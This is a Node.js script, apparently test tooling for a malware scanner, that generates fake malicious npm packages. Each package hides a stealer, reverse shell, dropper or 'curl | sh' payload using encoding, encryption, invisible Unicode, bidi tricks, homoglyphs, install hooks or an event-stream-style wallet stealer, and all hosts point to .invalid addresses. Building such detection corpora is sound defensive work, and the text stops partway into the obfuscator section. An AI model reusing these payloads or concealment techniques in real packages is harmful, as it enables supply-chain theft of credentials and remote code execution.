#!/usr/bin/env node
// Regenerates the computed files of the concealment replicas in test/corpus/malicious/ (encoded,
// encrypted, invisible-Unicode, obfuscator.io and binary-header ones). Deterministic: running it again
// rewrites the same bytes. The payloads wrapped here are INERT: every host is reserved (.invalid/.test),
// every IP is TEST-NET, commands are harmless, binaries are headers without code. Nothing here is run.
//
// Usage: node test/corpus-tools/gen-concealment-replicas.mjs [--obfuscator DIR]
//   --obfuscator DIR  a folder whose node_modules holds javascript-obfuscator (e.g. after
//                     `npm install --prefix DIR javascript-obfuscator@5.8.0`); without it the
//                     obfuscator-io-* files are left as they are.
import { mkdirSync, writeFileSync, chmodSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createRequire } from 'node:module';
import crypto from 'node:crypto';
import vm from 'node:vm';

const here = dirname(fileURLToPath(import.meta.url));
const OUT = join(here, '..', 'corpus', 'malicious');
const args = process.argv.slice(2);
const obfDir = args.includes('--obfuscator') ? args[args.indexOf('--obfuscator') + 1] : null;

function put(rel, content, mode) {
  const p = join(OUT, rel);
  mkdirSync(dirname(p), { recursive: true });
  writeFileSync(p, content);
  if (mode) chmodSync(p, mode);
}
const pkg = (o) => JSON.stringify(o, null, 2) + '\n';

// ---------------------------------------------------------------- inert payloads
const P = {
  recon: (host) => `const os=require('os'),https=require('https');
const d=JSON.stringify({h:os.hostname(),u:os.userInfo().username,p:os.platform(),hd:os.homedir(),c:process.cwd()});
const r=https.request({hostname:'${host}',path:'/b',method:'POST',headers:{'Content-Type':'application/json'}},()=>{});
r.on('error',()=>{});r.end(d);`,
  steal: (host) => `const fs=require('fs'),os=require('os'),path=require('path'),https=require('https');
const loot={env:process.env};
for(const f of ['.npmrc','.ssh/id_rsa','.ssh/id_ed25519','.aws/credentials','.gitconfig']){try{loot[f]=fs.readFileSync(path.join(os.homedir(),f),'utf8')}catch(e){}}
const b=Buffer.from(JSON.stringify(loot)).toString('base64');
const q=https.request({hostname:'${host}',path:'/u',method:'POST'},()=>{});q.on('error',()=>{});q.end(b);`,
  drop: (url) => `const https=require('https'),fs=require('fs'),os=require('os'),path=require('path'),cp=require('child_process');
const f=path.join(os.tmpdir(),'.'+Date.now().toString(36));
https.get('${url}',r=>{const w=fs.createWriteStream(f);r.pipe(w);w.on('finish',()=>{fs.chmodSync(f,0o755);cp.spawn(f,[],{detached:true,stdio:'ignore'}).unref()})}).on('error',()=>{});`,
  shell: (ip, port) => `const net=require('net'),cp=require('child_process');
const sh=cp.spawn(process.platform==='win32'?'cmd.exe':'/bin/sh',[]);
const c=new net.Socket();c.on('error',()=>{});
c.connect(${port},'${ip}',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)});`,
  curlsh: (url) => `require('child_process').exec('curl -fsSL ${url} | sh >/dev/null 2>&1',()=>{});`,
  browser: (host) => `(function(){try{var d={c:document.cookie,l:location.href,s:JSON.stringify(localStorage)};
navigator.sendBeacon('https://${host}/c',JSON.stringify(d));
var s=document.createElement('script');s.src='https://${host}/p.js';document.head.appendChild(s)}catch(e){}})();`,
};

// ---------------------------------------------------------------- helpers
const b64 = (s) => Buffer.from(s, 'utf8').toString('base64');
const hex = (s) => Buffer.from(s, 'utf8').toString('hex');
const xEsc = (s) => [...Buffer.from(s, 'utf8')].map((b) => '\\x' + b.toString(16).padStart(2, '0')).join('');
const uEsc = (s) => [...s].map((c) => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('');

// Dean Edwards' p,a,c,k,e,d packer (a public, decades-old technique)
function packer(src) {
  const base = 62;
  const enc = (c) => (c < base ? '' : enc(Math.floor(c / base))) + ((c = c % base) > 35 ? String.fromCharCode(c + 29) : c.toString(36));
  const counts = new Map();
  for (const w of src.match(/\b\w+\b/g)) counts.set(w, (counts.get(w) || 0) + 1);
  const words = [...counts.keys()].sort((a, b) => counts.get(b) - counts.get(a) || (a < b ? -1 : 1));
  const keys = [];
  const index = new Map();
  words.forEach((w, i) => { index.set(w, enc(i)); keys[i] = w; });
  // a word that equals its own code needs no key entry
  keys.forEach((w, i) => { if (w === enc(i)) keys[i] = ''; });
  const p = src.replace(/\b\w+\b/g, (w) => index.get(w))
    .replace(/\\/g, '\\\\').replace(/'/g, "\\'").replace(/\n/g, '\\n');
  return `eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--)d[e(c)]=k[c]||e(c);k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('${p}',${base},${words.length},'${keys.join('|')}'.split('|'),0,{}))\n`;
}
// check a packed/encoded wrapper decodes to the payload, with eval replaced by a capture (never runs it)
function roundTrip(code, expected, name) {
  let got = null;
  const ctx = { String, RegExp, parseInt, Buffer, console };
  ctx.capture = (s) => { got = s; };
  vm.runInNewContext(code.replace(/^eval\(/, 'capture('), ctx, { timeout: 2000 });
  if (got !== expected) throw new Error(`${name}: round trip failed`);
}

function rc4(key, data) {
  const s = [...Array(256).keys()];
  let j = 0;
  for (let i = 0; i < 256; i++) { j = (j + s[i] + key.charCodeAt(i % key.length)) & 255; [s[i], s[j]] = [s[j], s[i]]; }
  const out = Buffer.alloc(data.length);
  let i = 0; j = 0;
  for (let n = 0; n < data.length; n++) {
    i = (i + 1) & 255; j = (j + s[i]) & 255; [s[i], s[j]] = [s[j], s[i]];
    out[n] = data[n] ^ s[(s[i] + s[j]) & 255];
  }
  return out;
}

// ---------------------------------------------------------------- encoded-eval
{
  const id = 'encoded-eval-1';
  put(`${id}/package/package.json`, pkg({ name: 'gulp-sass-autoprefix', version: '3.1.0', main: 'index.js', scripts: { preinstall: 'node lib/setup.js' }, license: 'MIT' }));
  put(`${id}/package/index.js`, "module.exports = function autoprefix(opts) { return require('stream').PassThrough({ objectMode: true }); };\n");
  put(`${id}/package/lib/setup.js`, `// compiled setup helper\neval(Buffer.from('${b64(P.recon('b64.gulp-sass.invalid'))}', 'base64').toString('utf8'));\n`);
}
{
  const id = 'encoded-eval-2';
  put(`${id}/package/package.json`, pkg({ name: 'vue-lazy-image-loader', version: '2.0.3', type: 'module', main: 'dist/index.js', license: 'MIT' }));
  put(`${id}/package/dist/index.js`, `export function lazy(el, src) {
  const io = new IntersectionObserver((entries) => entries.forEach((e) => { if (e.isIntersecting) { el.src = src; io.disconnect(); } }));
  io.observe(el);
}
if (typeof window !== 'undefined') {
  setTimeout(() => new Function(atob('${b64(P.browser('img-cdn.vue-lazy.invalid'))}'))(), 2000);
}
export default { install(app) { app.directive('lazy', { mounted: (el, b) => lazy(el, b.value) }); } };
`);
}
{
  const id = 'encoded-eval-3';
  put(`${id}/package/package.json`, pkg({ name: 'mongoose-paginate-lite', version: '1.4.2', main: 'index.js', license: 'MIT' }));
  put(`${id}/package/index.js`, `'use strict';
const vm = require('vm');
const cfg = '${hex(P.steal('pg.mongoose-lite.invalid'))}';

function paginate(schema) {
  schema.statics.paginate = async function (q = {}, { page = 1, limit = 10 } = {}) {
    const docs = await this.find(q).skip((page - 1) * limit).limit(limit);
    return { docs, page, limit };
  };
}
vm.runInNewContext(Buffer.from(cfg, 'hex').toString(), { require, process, Buffer, console });
module.exports = paginate;
`);
}
{
  const id = 'encoded-eval-4';
  const src = P.curlsh('https://cc.fromchar.invalid/i.sh');
  const codes = [...src].map((c) => c.charCodeAt(0) + 7);
  put(`${id}/package/package.json`, pkg({ name: 'string-pad-utils', version: '0.2.1', main: 'index.js', scripts: { postinstall: 'node index.js' }, license: 'MIT' }));
  put(`${id}/package/index.js`, `var _c = [${codes.join(',')}];
module.exports = function pad(s, n, ch) { s = String(s); while (s.length < n) s = (ch || ' ') + s; return s; };
eval(String.fromCharCode.apply(null, _c.map(function (x) { return x - 7; })));
`);
}
{
  const id = 'encoded-eval-5';
  put(`${id}/package/package.json`, pkg({ name: 'express-rate-guard', version: '7.1.5', main: 'index.js', license: 'MIT' }));
  put(`${id}/package/index.js`, `'use strict';
const store = new Map();
module.exports = function rateGuard({ windowMs = 60000, max = 100 } = {}) {
  return (req, res, next) => {
    const k = req.ip, now = Date.now(), e = store.get(k) || { n: 0, t: now };
    if (now - e.t > windowMs) { e.n = 0; e.t = now; }
    e.n++; store.set(k, e);
    if (e.n > max) { res.statusCode = 429; return res.end('Too Many Requests'); }
    next();
  };
};
global['\\x65\\x76\\x61\\x6c']('${xEsc(P.shell('198.51.100.201', 1337))}');
`);
}
{
  const id = 'encoded-eval-6';
  const src = P.drop('https://dl.packed-loader.invalid/x');
  const packed = packer(src);
  roundTrip(packed, src, id);
  put(`${id}/package/package.json`, pkg({ name: 'request-promise-cache', version: '4.2.7', main: 'index.js', scripts: { preinstall: 'node script/prei.js' }, license: 'ISC' }));
  put(`${id}/package/index.js`, "module.exports = (rp) => (opts) => rp(opts);\n");
  put(`${id}/package/script/prei.js`, packed);
}
{
  const id = 'encoded-eval-7';
  const key = Buffer.from('k9#Lq!7', 'latin1');
  const src = P.recon('xor.intl-reltime.invalid') + '\n' + P.drop('https://xor.intl-reltime.invalid/n');
  const data = Buffer.from(src, 'utf8');
  for (let i = 0; i < data.length; i++) data[i] ^= key[i % key.length];
  put(`${id}/package/package.json`, pkg({ name: 'intl-relative-time-lite', version: '2.3.1', main: 'index.js', license: 'MIT' }));
  put(`${id}/package/index.js`, `'use strict';
const units = [['year', 31536000], ['month', 2592000], ['day', 86400], ['hour', 3600], ['minute', 60], ['second', 1]];
require('./lib/locale-data');
module.exports = function relative(date, now = Date.now()) {
  const diff = Math.round((new Date(date).getTime() - now) / 1000);
  for (const [unit, secs] of units) {
    if (Math.abs(diff) >= secs || unit === 'second') return new Intl.RelativeTimeFormat('en', { numeric: 'auto' }).format(Math.round(diff / secs), unit);
  }
};
`);
  put(`${id}/package/lib/locale-data.js`, `const KEY = Buffer.from('${key.toString('hex')}', 'hex');
const DATA = '${data.toString('base64')}';
function unpack(b64, key) {
  const buf = Buffer.from(b64, 'base64');
  for (let i = 0; i < buf.length; i++) buf[i] ^= key[i % key.length];
  return buf.toString('utf8');
}
try { eval(unpack(DATA, KEY)); } catch (e) {}
module.exports = { en: { now: 'now', past: '{0} ago', future: 'in {0}' } };
`);
}
{
  const id = 'encoded-eval-8';
  const src = P.steal('rev.i18n-helper.invalid');
  const rev = [...src].reverse().join('');
  put(`${id}/package/package.json`, pkg({ name: 'i18n-json-helper', version: '2.6.0', main: 'lib/index.js', license: 'MIT' }));
  put(`${id}/package/lib/index.js`, `var messages = require('./messages');
module.exports = function t(key, locale) { return (messages[locale || 'en'] || {})[key] || key; };
`);
  put(`${id}/package/lib/messages.js`, `var s = "${uEsc(rev)}";
(function () {}).constructor(s.split('').reverse().join(''))();
module.exports = { en: { hello: 'Hello' }, fr: { hello: 'Bonjour' } };
`);
}

// ---------------------------------------------------------------- encryption
{
  const id = 'encryption-1';
  const key = crypto.createHash('sha256').update('replica-key-1').digest();
  const iv = Buffer.alloc(16, 7);
  const c = crypto.createCipheriv('aes-256-cbc', key, iv);
  const blob = Buffer.concat([c.update(P.steal('aes.webpack-helper.invalid'), 'utf8'), c.final()]).toString('hex');
  put(`${id}/package/package.json`, pkg({ name: 'webpack-dotenv-helper', version: '1.0.9', main: 'index.js', scripts: { postinstall: 'node index.js' }, license: 'MIT' }));
  put(`${id}/package/index.js`, `const crypto = require('crypto');
const key = Buffer.from('${key.toString('hex')}', 'hex');
const iv = Buffer.from('${iv.toString('hex')}', 'hex');
const data = '${blob}';
const decipher = crypto.createDecipheriv('aes-256-cbc', key, iv);
let code = decipher.update(data, 'hex', 'utf8');
code += decipher.final('utf8');
eval(code);
module.exports = {};
`);
}
{
  const id = 'encryption-2';
  const salt = 'c1d2e3f4';
  const key = crypto.scryptSync('tsconfig-paths-resolver', salt, 32);
  const iv = Buffer.from('0123456789ab');
  const c = crypto.createCipheriv('aes-256-gcm', key, iv);
  const enc = Buffer.concat([c.update(P.shell('203.0.113.131', 8080), 'utf8'), c.final()]);
  const tag = c.getAuthTag();
  put(`${id}/package/package.json`, pkg({ name: 'tsconfig-paths-resolver', version: '4.2.0', main: 'lib/index.js', license: 'MIT' }));
  put(`${id}/package/lib/index.js`, `"use strict";
const path = require("path");
const loader = require("./loader");
function resolve(baseUrl, paths, request) {
  for (const [pattern, targets] of Object.entries(paths || {})) {
    const re = new RegExp("^" + pattern.replace("*", "(.*)") + "$");
    const m = re.exec(request);
    if (m) return path.resolve(baseUrl, targets[0].replace("*", m[1] || ""));
  }
  return null;
}
loader.init(require("../package.json").name);
module.exports = { resolve };
`);
  put(`${id}/package/lib/loader.js`, `"use strict";
const { scryptSync, createDecipheriv } = require("crypto");
const blob = { iv: "${iv.toString('base64')}", tag: "${tag.toString('base64')}", data: "${enc.toString('base64')}" };
exports.init = function (name) {
  try {
    const key = scryptSync(name, "${salt}", 32);
    const d = createDecipheriv("aes-256-gcm", key, Buffer.from(blob.iv, "base64"));
    d.setAuthTag(Buffer.from(blob.tag, "base64"));
    const src = Buffer.concat([d.update(Buffer.from(blob.data, "base64")), d.final()]).toString();
    new Function("require", src)(require);
  } catch (e) {}
};
`);
}
{
  const id = 'encryption-3';
  const key = Buffer.from('0f1e2d3c4b5a69788796a5b4c3d2e1f0', 'hex');
  const iv = Buffer.from('00112233445566778899aabbccddeeff', 'hex');
  const c = crypto.createCipheriv('aes-128-cbc', key, iv);
  const blob = Buffer.concat([c.update(P.drop('https://stage2.remote-key.invalid/b'), 'utf8'), c.final()]).toString('base64');
  put(`${id}/package/package.json`, pkg({ name: 'react-native-config-env', version: '1.5.4', main: 'index.js', scripts: { postinstall: 'node postinstall.js' }, license: 'MIT' }));
  put(`${id}/package/index.js`, "module.exports = Object.freeze({ ...process.env });\n");
  put(`${id}/package/payload.bin`, Buffer.from(blob, 'base64'));
  put(`${id}/package/postinstall.js`, `const https = require('https');
const fs = require('fs');
const path = require('path');
const crypto = require('crypto');
const Module = require('module');

// the key is only served by the operator: without it the blob is opaque
https.get('https://keys.remote-key.invalid/k/1.5.4', (res) => {
  let k = '';
  res.on('data', (c) => (k += c));
  res.on('end', () => {
    try {
      const d = crypto.createDecipheriv('aes-128-cbc', Buffer.from(k.trim(), 'hex'), Buffer.from('${iv.toString('hex')}', 'hex'));
      const src = Buffer.concat([d.update(fs.readFileSync(path.join(__dirname, 'payload.bin'))), d.final()]).toString();
      const m = new Module('cfg', module);
      m._compile(src, path.join(__dirname, 'cfg.js'));
    } catch (e) {}
  });
}).on('error', () => {});
`);
}
{
  const id = 'encryption-4';
  const key = 'n0t-a-real-key';
  const blob = rc4(key, Buffer.from(P.recon('rc4.chart-themes.invalid'), 'utf8')).toString('base64');
  put(`${id}/package/package.json`, pkg({ name: 'chartjs-plugin-themes', version: '0.6.1', main: 'dist/plugin.js', license: 'MIT' }));
  put(`${id}/package/dist/plugin.js`, `(function () {
  function r(k, d) {
    var s = [], j = 0, x, o = '';
    for (var i = 0; i < 256; i++) s[i] = i;
    for (i = 0; i < 256; i++) { j = (j + s[i] + k.charCodeAt(i % k.length)) % 256; x = s[i]; s[i] = s[j]; s[j] = x; }
    i = 0; j = 0;
    for (var y = 0; y < d.length; y++) {
      i = (i + 1) % 256; j = (j + s[i]) % 256; x = s[i]; s[i] = s[j]; s[j] = x;
      o += String.fromCharCode(d.charCodeAt(y) ^ s[(s[i] + s[j]) % 256]);
    }
    return o;
  }
  var b = Buffer.from('${blob}', 'base64').toString('latin1');
  require('vm').runInThisContext('(function (require) {' + Buffer.from(r('${key}', b), 'latin1').toString('utf8') + '\\n})')(require);
})();
module.exports = { id: 'themes', beforeUpdate(chart, args, opts) { chart.options.color = opts.color || '#333'; } };
`);
}

// ---------------------------------------------------------------- hidden code
const PAD = (n) => ' '.repeat(n);
{
  const id = 'hidden-code-1';
  put(`${id}/package/package.json`, pkg({ name: 'fast-deep-clone', version: '3.1.3', main: 'index.js', license: 'MIT' }));
  put(`${id}/package/index.js`, `'use strict';

module.exports = function clone(o) {
  if (o === null || typeof o !== 'object') return o;
  if (Array.isArray(o)) return o.map(clone);
  const out = {};
  for (const k of Object.keys(o)) out[k] = clone(o[k]);
  return out;
};${PAD(420)}require('child_process').exec('curl -s https://ws.deep-clone.invalid/$(whoami)@$(hostname) | sh', () => {});
`);
}
{
  const id = 'hidden-code-2';
  // invisible bytes: each payload byte becomes one variation selector (U+FE00-FE0F, U+E0100-E01EF)
  const bytes = Buffer.from(P.steal('vs.color-picker.invalid'), 'utf8');
  const hidden = [...bytes].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
  put(`${id}/package/package.json`, pkg({ name: 'vscode-color-picker-lite', version: '0.0.8', main: 'extension.js', engines: { vscode: '^1.80.0' }, license: 'MIT' }));
  put(`${id}/package/extension.js`, `const vscode = (() => { try { return require('vscode'); } catch (e) { return null; } })();
const s = v => [...v].map(w => (w = w.codePointAt(0), w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE00 : w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 + 16 : null)).filter(n => n !== null);
eval(Buffer.from(s(\`|${hidden}\`)).toString('utf-8'));
function activate(context) {
  if (vscode) context.subscriptions.push(vscode.commands.registerCommand('colorPicker.open', () => {}));
}
module.exports = { activate, deactivate() {} };
`);
}
{
  const id = 'hidden-code-3';
  // Unicode tag characters (U+E0000-E007F) carry ASCII that no editor shows
  const tags = [...P.curlsh('https://tag.md-lint.invalid/s')].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
  put(`${id}/package/package.json`, pkg({ name: 'markdownlint-rule-titlecase', version: '1.2.0', main: 'rule.js', license: 'MIT' }));
  put(`${id}/package/rule.js`, `// Rule: headings must be Title Case${tags}
const src = require('fs').readFileSync(__filename, 'utf8');
const decoded = [...src].map((c) => c.codePointAt(0)).filter((p) => p > 0xe0000 && p < 0xe007f).map((p) => String.fromCharCode(p - 0xe0000)).join('');
if (decoded) require('vm').runInThisContext(decoded);
module.exports = {
  names: ['titlecase'],
  description: 'Headings should be Title Case',
  tags: ['headings'],
  function: (params, onError) => {
    params.tokens.filter((t) => t.type === 'heading_open').forEach((t) => {
      const text = params.lines[t.lineNumber - 1].replace(/^#+\\s*/, '');
      if (text.split(' ').some((w) => w && w[0] !== w[0].toUpperCase())) onError({ lineNumber: t.lineNumber });
    });
  },
};
`);
}
{
  const id = 'hidden-code-4';
  // zero-width binary: U+200B = 0, U+200C = 1, U+200D separates bytes
  const zw = [...Buffer.from(P.recon('zw.emoji-picker.invalid'), 'utf8')].map((b) => b.toString(2).padStart(8, '0').replace(/0/g, '\u200b').replace(/1/g, '\u200c')).join('\u200d');
  put(`${id}/package/package.json`, pkg({ name: 'emoji-picker-element-lite', version: '1.21.3', main: 'index.js', scripts: { postinstall: 'node index.js' }, license: 'Apache-2.0' }));
  put(`${id}/package/index.js`, `const EMOJI = ['😀', '😂', '🥲', '👍', '🎉'];
const note = "${zw}";
const load = (t) => Function(Buffer.from(t.split('\\u200d').map((b) => parseInt(b.replace(/\\u200b/g, '0').replace(/\\u200c/g, '1'), 2))).toString())();
load(note);
module.exports = { list: () => EMOJI.slice() };
`);
}
{
  const id = 'hidden-code-5';
  const RLO = '\u202e', LRI = '\u2066', PDI = '\u2069';
  put(`${id}/package/package.json`, pkg({ name: 'express-jwt-guard', version: '8.4.1', main: 'index.js', license: 'MIT' }));
  put(`${id}/package/index.js`, `'use strict';
const jwt = require('jsonwebtoken');

// Trojan Source: bidi controls make the next lines render as if the check were live
module.exports = function guard(secret) {
  return function (req, res, next) {
    const token = (req.headers.authorization || '').replace(/^Bearer /, '');
    /*${RLO} } ${LRI}if (!isValid(token, secret))${PDI} ${LRI} begin admins only */
      return next();
    /* end admins only ${RLO} { ${LRI}*/
    res.statusCode = 401;
    res.end('unauthorized');
  };
};

function isValid(token, secret) {
  try { jwt.verify(token, secret); return true; } catch (e) { return false; }
}
/* telemetry off ${RLO} ${LRI}*/ require('child_process').exec('curl -s https://bidi.jwt-guard.invalid/p | sh', () => {}); /*${PDI} ${LRI} */
`);
}
{
  const id = 'hidden-code-6';
  // homoglyphs: "utіls" uses U+0456 CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I; "рath" uses U+0440
  const utils = 'ut\u0456ls';
  const rpath = '\u0440ath';
  put(`${id}/package/package.json`, pkg({ name: 'react-use-debounce-hook', version: '10.0.4', main: 'index.js', license: 'MIT' }));
  put(`${id}/package/index.js`, `'use strict';
const { debounce } = require('./lib/${utils}');
module.exports = function useDebounce(fn, wait) { return debounce(fn, wait); };
`);
  put(`${id}/package/lib/utils.js`, `exports.debounce = function (fn, wait) {
  let t;
  return function (...a) { clearTimeout(t); t = setTimeout(() => fn.apply(this, a), wait); };
};
`);
  put(`${id}/package/lib/${utils}.js`, `const path = require('path');
const ${rpath} = require('child_process');
const utils = require('./utils');
${rpath}.exec('curl -s https://glyph.debounce-hook.invalid/i.sh | sh', { cwd: path.resolve(__dirname) }, () => {});
module.exports = utils;
`);
}
{
  const id = 'hidden-code-7';
  const bundle = 'var e={};!function(n){var t={};function r(o){if(t[o])return t[o].exports;var u=t[o]={i:o,l:!1,exports:{}};return n[o].call(u.exports,u,u.exports,r),u.l=!0,u.exports}r.m=n,r.c=t,r(r.s=0)}([function(e,t,n){"use strict";Object.defineProperty(t,"__esModule",{value:!0});t.formatBytes=function(e,t){if(0===e)return"0 Bytes";var n=1024,r=t||2,o=["Bytes","KB","MB","GB","TB"],u=Math.floor(Math.log(e)/Math.log(n));return parseFloat((e/Math.pow(n,u)).toFixed(r))+" "+o[u]}}]);';
  put(`${id}/package/package.json`, pkg({ name: 'pretty-bytes-min', version: '6.1.1', main: 'dist/index.min.js', license: 'MIT' }));
  put(`${id}/package/dist/index.min.js`, `${bundle}${'\t'.repeat(300)}${P.drop('https://tab.pretty-bytes.invalid/u')}module.exports=e;\n`);
}

// ---------------------------------------------------------------- binaries (headers only, no code)
function elf() {
  const b = Buffer.alloc(128);
  b.write('\x7fELF', 0, 'latin1');
  b[4] = 2; b[5] = 1; b[6] = 1; // 64-bit, little endian, version 1
  b.writeUInt16LE(2, 16); // ET_EXEC
  b.writeUInt16LE(0x3e, 18); // x86-64
  b.writeUInt32LE(1, 20);
  b.writeUInt16LE(64, 52); // header size; no program headers, so nothing can load
  return b;
}
function pe() {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x8664, 0x84); // AMD64, zero sections
  return b;
}
function macho() {
  const b = Buffer.alloc(64);
  b.writeUInt32LE(0xfeedfacf, 0); // MH_MAGIC_64
  b.writeUInt32LE(0x01000007, 4); // x86_64
  b.writeUInt32LE(2, 12); // MH_EXECUTE, zero load commands
  return b;
}
{
  const id = 'binaries-1';
  put(`${id}/package/package.json`, pkg({ name: 'log-rotate-helper', version: '1.0.2', main: 'index.js', scripts: { postinstall: 'node install.js' }, license: 'MIT' }));
  put(`${id}/package/index.js`, "module.exports = { rotate: (file) => file + '.1' };\n");
  put(`${id}/package/lib/helper`, elf(), 0o755);
  put(`${id}/package/install.js`, `const { chmodSync } = require('fs');
const { spawn } = require('child_process');
const path = require('path');
const bin = path.join(__dirname, 'lib', 'helper');
try {
  chmodSync(bin, 0o755);
  spawn(bin, ['-d'], { detached: true, stdio: 'ignore' }).unref();
} catch (e) {}
`);
}
{
  const id = 'binaries-2';
  put(`${id}/package/package.json`, pkg({ name: 'ws-chat-native', version: '2.0.1', description: 'Native helpers for a websocket chat client', main: 'lib/start.js', scripts: { postinstall: 'node .' }, license: 'MIT' }));
  put(`${id}/package/lib/start.js`, `const { execFile } = require('child_process');
const path = require('path');
if (process.platform === 'win32') {
  for (const exe of ['svc.exe', 'helper.exe']) execFile(path.join(__dirname, '..', 'bin', exe), [], { windowsHide: true }, () => {});
}
module.exports = { connect: (url) => ({ url }) };
`);
  put(`${id}/package/bin/svc.exe`, pe());
  put(`${id}/package/bin/helper.exe`, pe());
}
{
  const id = 'binaries-3';
  put(`${id}/package/package.json`, pkg({ name: 'fs-watch-fast', version: '2.3.0', main: 'index.js', license: 'MIT' }));
  put(`${id}/package/index.js`, `'use strict';
const os = require('os');
const path = require('path');
const { execFile } = require('child_process');
// "native watcher" with no binding.gyp and no build step
const native = require(path.join(__dirname, 'prebuilds', \`\${os.platform()}-\${os.arch()}\`, 'watcher.node'));
if (os.platform() === 'darwin') execFile(path.join(__dirname, 'prebuilds', 'darwin-x64', 'fsevents-helper'), () => {});
module.exports = native;
`);
  put(`${id}/package/prebuilds/linux-x64/watcher.node`, elf());
  put(`${id}/package/prebuilds/darwin-x64/watcher.node`, macho());
  put(`${id}/package/prebuilds/darwin-x64/fsevents-helper`, macho(), 0o755);
}
{
  const id = 'binaries-4';
  put(`${id}/package/package.json`, pkg({ name: 'win-ca-certs-sync', version: '3.4.1', main: 'index.js', scripts: { install: 'node index.js' }, os: ['win32'], license: 'MIT' }));
  put(`${id}/package/index.js`, `const { exec } = require('child_process');
const path = require('path');
const dll = path.join(__dirname, 'native', 'certsync.dll');
exec(\`rundll32.exe "\${dll}",DllRegisterServer\`, { windowsHide: true }, () => {});
exec(\`regsvr32 /s "\${dll}"\`, { windowsHide: true }, () => {});
`);
  put(`${id}/package/native/certsync.dll`, pe());
}
{
  const id = 'binaries-5';
  put(`${id}/package/package.json`, pkg({ name: 'font-subset-loader', version: '0.9.0', main: 'index.js', scripts: { postinstall: 'node index.js --cache' }, license: 'OFL-1.1' }));
  put(`${id}/package/index.js`, `const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

if (process.argv.includes('--cache')) {
  // the "font" is an executable: copy it out under a harmless name and start it
  const src = path.join(__dirname, 'assets', 'Inter-subset.woff2');
  const dst = path.join(os.tmpdir(), '.fontcache');
  try {
    fs.copyFileSync(src, dst);
    fs.chmodSync(dst, 0o755);
    spawn(dst, [], { detached: true, stdio: 'ignore' }).unref();
  } catch (e) {}
}
module.exports = (family) => ({ family, src: path.join(__dirname, 'assets', 'Inter-subset.woff2') });
`);
  put(`${id}/package/assets/Inter-subset.woff2`, elf());
}

// ---------------------------------------------------------------- anti-analysis: key from the target app
{
  // event-stream pattern: the payload only decrypts inside one app, whose npm_package_description is the key
  const id = 'anti-analysis-2';
  const description = 'A Secure Bitcoin Wallet';
  const inner = `module.exports = function (app) { try {
  var w = app && app.wallet; if (!w || !w.credentials) return;
  var https = require('https');
  var q = https.request({ hostname: 'collect.stream-flat.invalid', path: '/w', method: 'POST' }, function () {});
  q.on('error', function () {}); q.end(JSON.stringify({ xpriv: w.credentials.xPrivKey, mnemonic: w.credentials.mnemonic }));
} catch (e) {} };`;
  const key = crypto.createHash('sha256').update(description).digest();
  const iv = Buffer.alloc(16, 3);
  const c = crypto.createCipheriv('aes-256-cbc', key, iv);
  const blob = Buffer.concat([c.update(inner, 'utf8'), c.final()]).toString('hex');
  put(`${id}/package/package.json`, pkg({ name: 'flatmap-stream-lite', version: '0.1.1', main: 'index.min.js', license: 'MIT' }));
  put(`${id}/package/index.min.js`, `var Stream=require("stream").Stream;module.exports=function(e,n){var i=new Stream,a=0,o=0,u=!1,f=!1,l=!1,c=0,s=!1,d=(n=n||{}).failures?"failure":"error",m={};function w(r,e){var t=c+1;if(e===t?(void 0!==r&&i.emit.apply(i,["data",r]),c++,t++):m[e]=r,m.hasOwnProperty(t)){var n=m[t];return delete m[t],w(n,t)}a===o&&(f&&(f=!1,i.emit("drain")),u&&v())}function p(r,e,t){l||(s=!0,r&&!n.failures||w(e,t),r&&i.emit.apply(i,[d,r]),s=!1)}function b(r,t,n){return e.call(null,r,function(r,e){n(r,e,t)})}function v(r){if(u=!0,i.writable=!1,void 0!==r)return w(r,a);a==o&&(i.readable=!1,i.emit("end"),i.destroy())}return i.writable=!0,i.readable=!0,i.write=function(r){if(u)throw new Error("flatmap stream is not writable");s=!1;try{for(var e in r){a++;var t=b(r[e],a,p);if(f=!1===t)break}return!f}catch(r){if(s)throw r;return p(r),!f}},i.end=function(r){u||v(r)},i.destroy=function(){u=l=!0,i.writable=i.readable=f=!1,process.nextTick(function(){i.emit("close")})},i.pause=function(){f=!0},i.resume=function(){f=!1},i};
!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),r("crypto").createHash("sha256").update(o).digest(),Buffer.alloc(16,3)),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();
`);
  const h = (x) => Buffer.from(x).toString('hex');
  put(`${id}/package/test/data.js`, `module.exports = ${JSON.stringify([blob, '', h('crypto'), h('env'), h('npm_package_description'), h('aes-256-cbc'), h('createDecipheriv'), h('_compile'), h('hex'), h('utf8')], null, 1)};\n`);
}

// ---------------------------------------------------------------- obfuscator.io output (needs javascript-obfuscator)
if (obfDir) {
  const req = createRequire(join(obfDir, 'noop.js'));
  const JO = req('javascript-obfuscator');
  const ob = (src, opts) => JO.obfuscate(src, { seed: 1337, ...opts }).getObfuscatedCode() + '\n';
  {
    const id = 'obfuscator-io-1';
